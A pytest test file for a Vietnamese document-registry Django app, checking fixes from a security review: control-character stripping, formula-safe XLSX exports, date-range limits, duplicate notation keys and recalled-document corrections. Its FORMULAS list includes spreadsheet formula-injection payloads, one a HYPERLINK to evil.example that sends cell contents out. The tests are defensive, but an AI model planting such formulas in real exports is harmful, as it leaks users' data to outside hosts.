"""Findings of the security review, each reproduced: control characters and formulas in the
XLSX exports, a date at the end of the calendar in a register's filter, duplicates of a
notation with "Đ", a correction issued after the corrected document was recalled, and the
leader's instruction missing from the search text."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from approvals import services as workflow
from documents.models import (
    Document,
    DocumentType,
    Event,
    IncomingRecord,
    Receipt,
    SearchEntry,
    Unit,
)
from documents.records import incoming
from documents.records.incoming_checks import notation_key
from tests.documents.pdf_helpers import pdf_bytes
from tests.records.test_recall_corrections import draft

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+1+1 HYPERLINK",
    "-2+3 HYPERLINK",
    "@SUM(A1) HYPERLINK",
]


def web(users, username: str) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(users[username])
    return client


def sheet_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]


def other_upload(incoming_upload, salt: str):
    return incoming_upload(pdf_bytes() + f"\n%{salt}\n".encode())


# --- 1. control characters ------------------------------------------------------------------


def test_registration_drops_control_characters_and_the_exports_work(users, incoming_register):
    record = incoming_register(
        subject="Trích yếu dán từ PDF\x01 lỗi\x0b",
        notation="5/\x02CTRL",
        sender_name="Công an\x1f tỉnh",
        signer_name="Nguyễn\x07 Văn An",
        notes="ghi\x01chú",
    )
    record.refresh_from_db()
    document = record.document
    assert document.subject == "Trích yếu dán từ PDF lỗi"
    assert document.notation == "5/CTRL"
    assert record.sender_name == "Công an tỉnh"
    assert document.signer_name == "Nguyễn Văn An"
    assert record.notes == "ghichú"
    client = web(users, "vanthu")
    register = client.get(
        reverse("records:register_xlsx", args=["den", "DEN", record.arrival_year])
    )
    assert register.status_code == 200
    assert any(
        str(c.value).endswith(": Trích yếu dán từ PDF lỗi") for c in sheet_cells(register.content)
    )
    found = client.get(reverse("records:search_xlsx"), {"q": "trích yếu"})
    assert found.status_code == 200
    assert any(c.value == "Trích yếu dán từ PDF lỗi" for c in sheet_cells(found.content))


def test_the_incoming_form_stores_no_control_character(users, incoming_upload):
    response = web(users, "vanthu").post(
        reverse("records:incoming_create"),
        {
            "upload": incoming_upload(),
            "sender_name": "Công an tỉnh",
            "notation": "7/CA",
            "issued_on": (timezone.localdate() - dt.timedelta(days=1)).strftime("%d/%m/%Y"),
            "document_type": DocumentType.objects.get(name="Công văn").pk,
            "subject": "Có\x01ký tự",
            "urgency": "",
            "confidentiality": "",
            "channel": "electronic",
        },
    )
    assert response.status_code == 302
    assert IncomingRecord.objects.get().document.subject == "Cóký tự"


def test_the_exports_drop_control_characters_stored_before(users, incoming_register):
    record = incoming_register(subject="Trích yếu cũ", notation="6/OLD")
    Document.objects.filter(pk=record.document_id).update(subject="Trích yếu\x01 cũ")
    IncomingRecord.objects.filter(pk=record.pk).update(sender_name="Nơi\x02 gửi")
    client = web(users, "vanthu")
    register = client.get(
        reverse("records:register_xlsx", args=["den", "DEN", record.arrival_year])
    )
    assert register.status_code == 200
    values = {c.value for c in sheet_cells(register.content)}
    assert "Nơi gửi" in values
    assert any(str(value).endswith(": Trích yếu cũ") for value in values)
    found = client.get(reverse("records:search_xlsx"), {"q": "trích yếu"})
    assert found.status_code == 200
    assert "Trích yếu cũ" in {c.value for c in sheet_cells(found.content)}


# --- 2. formulas ----------------------------------------------------------------------------


def test_the_register_xlsx_writes_formula_like_text_as_text(
    users, incoming_register, incoming_upload
):
    for number, text in enumerate(FORMULAS):
        incoming_register(
            subject=text,
            sender_name=f"{text} nơi gửi",
            notation=f"{number}/F",
            upload=other_upload(incoming_upload, str(number)),
        )
    year = IncomingRecord.objects.first().arrival_year
    response = web(users, "vanthu").get(reverse("records:register_xlsx", args=["den", "DEN", year]))
    assert response.status_code == 200
    cells = [c for c in sheet_cells(response.content) if "HYPERLINK" in str(c.value)]
    assert len(cells) == 2 * len(FORMULAS)
    # the sender's name starts its cell (the subject follows the type's name)
    assert {f"{t} nơi gửi" for t in FORMULAS} <= {c.value for c in cells}
    assert {c.data_type for c in cells} == {"s"}


def test_the_search_xlsx_writes_formula_like_text_as_text(
    users, incoming_register, incoming_upload
):
    for number, text in enumerate(FORMULAS):
        incoming_register(
            subject=text, notation=f"{number}/G", upload=other_upload(incoming_upload, str(number))
        )
    response = web(users, "vanthu").get(reverse("records:search_xlsx"), {"q": "HYPERLINK"})
    assert response.status_code == 200
    cells = [c for c in sheet_cells(response.content) if "HYPERLINK" in str(c.value)]
    assert {c.value for c in cells} == set(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}
    dates = [c for c in sheet_cells(response.content) if isinstance(c.value, dt.datetime)]
    assert len(dates) == len(FORMULAS)  # the dates stay dates


# --- 3. the last day of the calendar --------------------------------------------------------


@pytest.mark.parametrize("kind", ["den", "theo-doi"])
@pytest.mark.parametrize("name", ["register_detail", "register_xlsx", "register_pdf"])
def test_a_register_up_to_31_12_9999(users, incoming_register, kind, name):
    record = incoming_register(subject="Đến cuối lịch", notation="1/END")
    response = web(users, "vanthu").get(
        reverse(f"records:{name}", args=[kind, "DEN", record.arrival_year]),
        {"from": "01/01/1900", "to": "31/12/9999"},
    )
    assert response.status_code == 200
    if name == "register_detail" and kind == "den":
        assert "Đến cuối lịch" in response.content.decode()


# --- 4. duplicates of a notation with "Đ" ---------------------------------------------------


def test_a_notation_with_d_stroke_is_a_duplicate(incoming_register, incoming_upload):
    first = incoming_register(notation="12/QĐ-UBND", upload=other_upload(incoming_upload, "a"))
    assert first.notation_key == "12/qđ-ubnd" == notation_key("12 / QĐ - UBND")
    before = IncomingRecord.objects.count()
    with pytest.raises(ValidationError) as error:
        incoming_register(notation="12/qđ - ubnd", upload=other_upload(incoming_upload, "b"))
    assert "confirm_duplicate" in error.value.message_dict
    assert IncomingRecord.objects.count() == before
    again = incoming_register(
        notation="12/QĐ-UBND", upload=other_upload(incoming_upload, "c"), confirm_duplicate=True
    )
    assert again.duplicate_of == first
    # Another sender, the same notation: not a duplicate.
    other = incoming_register(
        notation="12/QĐ-UBND",
        sender_name="UBND huyện Đồng Phú",
        sender_unit=None,
        upload=other_upload(incoming_upload, "d"),
    )
    assert other.duplicate_of is None


def test_the_migration_fills_the_key_of_existing_records(incoming_register):
    from importlib import import_module

    from django.apps import apps

    record = incoming_register(notation="7/NĐ-CP")
    IncomingRecord.objects.filter(pk=record.pk).update(notation_key="")
    migration = import_module("documents.migrations.0018_incoming_notation_key")
    migration.fill_keys(apps, None)
    record.refresh_from_db()
    assert record.notation_key == "7/nđ-cp"


# --- 5. a correction of a recalled document --------------------------------------------------


def correction_state(correction: Document, old: Document) -> dict:
    correction.refresh_from_db()
    old.refresh_from_db()
    return {
        "correction": (correction.status, correction.number, correction.notation),
        "old": old.status,
        "events": Event.objects.count(),
        "receipts": Receipt.objects.filter(document=correction).count(),
    }


def test_a_correction_is_not_signed_off_once_the_old_one_is_recalled(users, issued):
    correction = draft(users, issued, type_name="Công văn", corrects=issued)
    workflow.document_submit(document=correction, actor=users.chuyenvien, signer=users.phogiamdoc)
    workflow.document_recall(document=issued, actor=users.vanthu, reason="Sai thẩm quyền")
    before = correction_state(correction, issued)
    client = web(users, "phogiamdoc")
    response = client.post(
        reverse("documents:document_sign_off", args=[correction.pk]), {"decision": "approve"}
    )
    assert response.status_code == 422
    assert "đã bị thu hồi" in response.content.decode()
    assert correction_state(correction, issued) == before
    assert correction.status == Document.Status.SUBMITTED


def test_a_correction_is_not_issued_once_the_old_one_is_recalled(users, issued):
    correction = draft(users, issued, type_name="Công văn", corrects=issued)
    workflow.document_submit(document=correction, actor=users.chuyenvien, signer=users.phogiamdoc)
    workflow.document_decide(document=correction, actor=users.phogiamdoc, decision="approve")
    workflow.document_recall(document=issued, actor=users.vanthu, reason="Sai thẩm quyền")
    before = correction_state(correction, issued)
    with pytest.raises(ValidationError) as error:
        workflow.document_issue(document=correction, actor=users.vanthu)
    assert "corrects" in error.value.message_dict
    assert correction_state(correction, issued) == before
    response = web(users, "vanthu").post(
        reverse("documents:document_issue", args=[correction.pk]), {"confirm": "on"}
    )
    assert response.status_code == 422
    assert "đã bị thu hồi" in response.content.decode()
    assert correction_state(correction, issued) == before
    assert correction.status == Document.Status.SIGNED
    assert not Event.objects.filter(document=issued, kind=Event.Kind.CORRECTED).exists()


def test_a_replacement_of_a_document_still_issued_is_issued(users, issued):
    replacement = draft(users, issued, type_name=issued.document_type.name, replaces=issued)
    workflow.document_submit(document=replacement, actor=users.chuyenvien, signer=users.phogiamdoc)
    workflow.document_decide(document=replacement, actor=users.phogiamdoc, decision="approve")
    workflow.document_issue(document=replacement, actor=users.vanthu)
    replacement.refresh_from_db()
    assert replacement.status == Document.Status.ISSUED
    assert Event.objects.filter(document=issued, kind=Event.Kind.REPLACED).exists()


# --- 6. the leader's instruction is searchable ----------------------------------------------


def test_the_instruction_joins_the_search_text(users, incoming_register):
    record = incoming_register(subject="Công văn về an ninh mạng")
    incoming.incoming_present(record=record, actor=users.vanthu)
    incoming.incoming_instruct(
        record=record,
        actor=users.giamdoc,
        instruction="Giao Văn phòng rà soát hệ thống XKCDQ42 trước Tết.",
        lead_unit=Unit.objects.get(abbreviation="VP"),
    )
    assert "xkcdq42" in SearchEntry.objects.get(document=record.document).text
    page = web(users, "vanthu").get(reverse("records:search"), {"q": "XKCDQ42"})
    assert page.status_code == 200
    assert "Công văn về an ninh mạng" in page.content.decode()
